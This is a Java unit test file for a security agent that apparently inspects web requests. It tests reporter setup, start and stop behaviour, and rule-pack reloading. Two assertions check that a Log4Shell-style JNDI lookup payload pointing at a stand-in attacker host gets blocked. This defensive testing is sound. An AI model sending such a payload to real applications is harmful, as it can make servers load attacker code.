package io.palisade.core;

import static org.assertj.core.api.Assertions.assertThat;

import io.palisade.core.config.Settings;
import io.palisade.core.config.SettingsReader;
import io.palisade.core.counters.Counters;
import io.palisade.core.event.AgentDescription;
import io.palisade.core.event.EventSink;
import io.palisade.core.event.Reporter;
import io.palisade.core.event.ReporterFactory;
import io.palisade.core.event.SecurityEvent;
import io.palisade.core.hook.HookTable;
import io.palisade.core.hook.JdbcHooks;
import io.palisade.core.request.InputSource;
import io.palisade.core.request.RequestContext;
import io.palisade.core.request.RequestLimits;
import io.palisade.core.request.RequestRecord;
import io.palisade.core.rules.PackReceiver;
import java.nio.file.Files;
import java.nio.file.Path;
import java.nio.file.attribute.FileTime;
import java.time.Duration;
import java.time.Instant;
import java.util.ArrayList;
import java.util.List;
import java.util.Map;
import org.awaitility.Awaitility;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;

/** The agent of a deployment, assembled and run through its lifecycle without a container. */
class PalisadeAgentTest {

    /** A reporter that keeps what it is given and says what was done to it. */
    static final class KeepingReporter implements Reporter {
        final List<SecurityEvent> events = new ArrayList<>();
        int starts;
        int closes;

        @Override
        public boolean offer(SecurityEvent event) {
            return events.add(event);
        }

        @Override
        public void start() {
            starts++;
        }

        @Override
        public void close() {
            closes++;
        }
    }

    static final class KeepingFactory implements ReporterFactory {
        final KeepingReporter reporter = new KeepingReporter();
        AgentDescription agent;
        PackReceiver packs;
        Counters counters;

        @Override
        public Reporter create(Settings settings, Counters counters, AgentDescription agent, PackReceiver packs) {
            this.agent = agent;
            this.packs = packs;
            this.counters = counters;
            return reporter;
        }
    }

    private static Settings settings(String... keyValues) {
        Map<String, String> map = new java.util.HashMap<>();
        for (int i = 0; i < keyValues.length; i += 2) {
            map.put(keyValues[i], keyValues[i + 1]);
        }
        return SettingsReader.read(map::get);
    }

    private static boolean blocks(PalisadeAgent agent, String query) {
        RequestRecord record = new RequestRecord("r", "GET", "/search", "192.0.2.1", RequestLimits.DEFAULT);
        record.addInput(InputSource.QUERY, "q", query);
        return agent.runtime().rules().inspectRequest(record) != null;
    }

    @Test
    void theReporterGetsTheAgentsDescriptionTheCountersAndTheEngineAsItsPackReceiver() throws Exception {
        JdbcHooks jdbc = new JdbcHooks();
        HookTable table = HookTable.builder().jdbc(jdbc).build();
        KeepingFactory factory = new KeepingFactory();
        PalisadeAgent agent = PalisadeAgent.assemble(settings(), table, true, "com.acme.shop", List.of(factory));

        assertThat(factory.agent.application()).as("derived name when palisade.app.name is unset").isEqualTo("com.acme.shop");
        assertThat(factory.agent.hookPoints()).hasSize(table.size()).contains(jdbc.executeQuery.symbol());
        assertThat(factory.counters).isSameAs(agent.runtime().counters());
        assertThat(agent.runtime().sink()).isSameAs(factory.reporter);
        assertThat(agent.runtime().rules().jdbc().hookPoints()).as("the SQL check is attached").contains(jdbc.executeQuery);

        // A pack the backend serves reaches the engine through the receiver the reporter was given.
        factory.packs.receive("{\"format\":\"palisade-rules/1\",\"version\":\"b1\",\"rules\":[{\"id\":\"word\","
                + "\"attack_type\":\"policy\",\"conditions\":[{\"inputs\":[\"query\"],\"operator\":\"equals\","
                + "\"value\":[\"apple\"]}]}]}", "backend", false);
        assertThat(blocks(agent, "apple")).isTrue();
    }

    @Test
    void startAndStopFollowTheApplicationOnceEach() {
        KeepingFactory factory = new KeepingFactory();
        PalisadeAgent agent = PalisadeAgent.assemble(settings("palisade.app.name", "bookstore"), HookTable.builder().build(),
                false, "ignored", List.of(factory));
        assertThat(factory.agent.application()).isEqualTo("bookstore");
        RequestContext requests = agent.runtime().requests();
        RequestRecord record = new RequestRecord("r", "GET", "/", "192.0.2.1", RequestLimits.DEFAULT);

        agent.start();
        agent.start();
        assertThat(factory.reporter.starts).isEqualTo(1);
        requests.begin(record);
        try {
            assertThat(RequestContext.capturing()).as("propagation sees the deployment once it runs").isSameAs(requests);
        } finally {
            requests.end(record);
        }

        agent.stop();
        agent.stop();
        agent.start();
        assertThat(factory.reporter.closes).isEqualTo(1);
        assertThat(factory.reporter.starts).as("nothing starts again after stop").isEqualTo(1);
        requests.begin(new RequestRecord("s", "GET", "/", "192.0.2.1", RequestLimits.DEFAULT));
        assertThat(RequestContext.capturing()).as("a stopped deployment is not propagated").isNull();
    }

    @Test
    void withoutAReporterOrWithOneThatFailsTheApplicationIsStillProtected() {
        PalisadeAgent none = PalisadeAgent.assemble(settings(), HookTable.builder().build(), false, "app", List.of());
        assertThat(none.reporter()).isNull();
        assertThat(none.runtime().sink()).isSameAs(EventSink.DISCARD);
        assertThat(blocks(none, "${jndi:ldap://evil.example/a}")).isTrue();

        ReporterFactory broken = (settings, counters, agent, packs) -> {
            throw new IllegalStateException("no JSON provider");
        };
        PalisadeAgent failed = PalisadeAgent.assemble(settings(), HookTable.builder().build(), false, "app", List.of(broken));
        assertThat(failed.reporter()).isNull();
        assertThat(failed.runtime().sink()).isSameAs(EventSink.DISCARD);
        failed.start();
        assertThat(blocks(failed, "${jndi:ldap://evil.example/a}")).isTrue();
        failed.stop();
    }

    @Test
    void theRulesLocationIsReadAtAssemblyAndFollowedOnceStarted(@TempDir Path dir) throws Exception {
        Path file = dir.resolve("rules.json");
        Files.writeString(file, pack("l1", "apple"));
        PalisadeAgent agent = PalisadeAgent.assemble(settings("palisade.rules.location", file.toString(),
                "palisade.rules.refresh", "1s"), HookTable.builder().build(), false, "app", List.of());
        assertThat(blocks(agent, "apple")).as("read at assembly").isTrue();
        agent.start();
        try {
            Files.writeString(file, pack("l2", "pear"));
            Files.setLastModifiedTime(file, FileTime.from(Instant.now().plusSeconds(5)));
            Awaitility.await().atMost(Duration.ofSeconds(10)).until(() -> blocks(agent, "pear"));
        } finally {
            agent.stop();
        }
    }

    private static String pack(String version, String value) {
        return "{\"format\":\"palisade-rules/1\",\"version\":\"" + version + "\",\"rules\":[{\"id\":\"word\","
                + "\"attack_type\":\"policy\",\"conditions\":[{\"inputs\":[\"query\"],\"operator\":\"equals\","
                + "\"value\":[\"" + value + "\"]}]}]}";
    }
}
